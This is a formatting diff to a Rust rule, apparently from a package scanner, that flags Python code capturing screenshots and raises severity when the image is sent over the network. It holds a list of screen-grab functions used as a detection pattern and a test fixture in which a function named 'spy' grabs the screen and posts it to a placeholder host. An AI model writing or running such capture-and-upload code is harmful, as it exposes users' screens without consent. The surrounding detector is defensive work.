@@ -18,9 +18,23 @@ pub static INFO: RuleInfo = RuleInfo {
 pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
     let Some(facts) = cx.facts else { return };
     let net = cx.has_network();
-    let flow = facts.calls.iter().find(|c| c.arg_taint() & SCREEN != 0 && (c.is_network() || net && crate::inspect::patterns::SEND_METHODS.contains(&c.method())));
+    let flow = facts.calls.iter().find(|c| {
+        c.arg_taint() & SCREEN != 0
+            && (c.is_network()
+                || net && crate::inspect::patterns::SEND_METHODS.contains(&c.method()))
+    });
     for c in &facts.calls {
-        let shot = matches!(c.name.as_str(), "PIL.ImageGrab.grab" | "ImageGrab.grab" | "pyautogui.screenshot" | "pyscreenshot.grab" | "mss.mss" | "mss.mss().grab" | "mss.mss().shot" | "mss.mss().save");
+        let shot = matches!(
+            c.name.as_str(),
+            "PIL.ImageGrab.grab"
+                | "ImageGrab.grab"
+                | "pyautogui.screenshot"
+                | "pyscreenshot.grab"
+                | "mss.mss"
+                | "mss.mss().grab"
+                | "mss.mss().shot"
+                | "mss.mss().save"
+        );
         if !shot {
             continue;
         }
@@ -31,7 +45,22 @@ pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
         } else {
             c.ctx.pick(Severity::Medium, Severity::Low)
         };
-        out.emit(&INFO, sev, Confidence::Medium, c.line, format!("screenshot taken with `{}`{}", c.name, if flow.is_some() { " and sent over the network" } else { "" }), c.note.as_deref());
+        out.emit(
+            &INFO,
+            sev,
+            Confidence::Medium,
+            c.line,
+            format!(
+                "screenshot taken with `{}`{}",
+                c.name,
+                if flow.is_some() {
+                    " and sent over the network"
+                } else {
+                    ""
+                }
+            ),
+            c.note.as_deref(),
+        );
     }
 }
 
@@ -43,12 +72,18 @@ mod tests {
     #[test]
     fn screenshot_sent() {
         let src = "from PIL import ImageGrab\nimport requests, io\ndef spy():\n    img = ImageGrab.grab()\n    buf = io.BytesIO()\n    img.save(buf, 'PNG')\n    requests.post('https://x.example.invalid', files={'f': img.tobytes()})\n";
-        assert_eq!(worst("screen-capture", "pkg/a.py", src), Some(Severity::High));
+        assert_eq!(
+            worst("screen-capture", "pkg/a.py", src),
+            Some(Severity::High)
+        );
     }
 
     #[test]
     fn screenshot_tool_alone_is_low() {
         let src = "import pyautogui\ndef snap(path):\n    pyautogui.screenshot(path)\n";
-        assert_eq!(worst("screen-capture", "pkg/a.py", src), Some(Severity::Low));
+        assert_eq!(
+            worst("screen-capture", "pkg/a.py", src),
+            Some(Severity::Low)
+        );
     }
 }
